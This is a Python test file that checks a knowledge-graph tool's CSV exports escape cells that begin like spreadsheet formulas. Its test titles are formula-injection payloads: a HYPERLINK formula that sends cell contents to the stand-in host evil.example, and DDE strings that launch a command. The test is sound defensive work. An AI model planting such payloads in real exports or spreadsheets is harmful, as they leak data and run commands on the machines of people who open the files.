"""CSV exports open safely in a spreadsheet (issue 17): no cell starts like a formula."""
import csv
import io

import kg
from kg import exports

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3+cmd|' /C calc'!A0"]


def test_no_csv_cell_starts_like_a_formula(tmp_path):
    entries = "".join(f"{title}\n\nWe propose a model. Experiments on ImageNet.\n\n" for title in HOSTILE_TITLES)
    (tmp_path / "day.txt").write_text("Mar 1\n\n" + entries, encoding="utf-8")
    graph = kg.build([tmp_path], progress=False)
    for text in (exports.nodes_csv(graph.nx), exports.edges_csv(graph.nx)):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    labels = [row["label"] for row in csv.DictReader(io.StringIO(exports.nodes_csv(graph.nx)))]
    assert sorted("'" + t for t in HOSTILE_TITLES) == sorted(l for l in labels if l.startswith("'"))
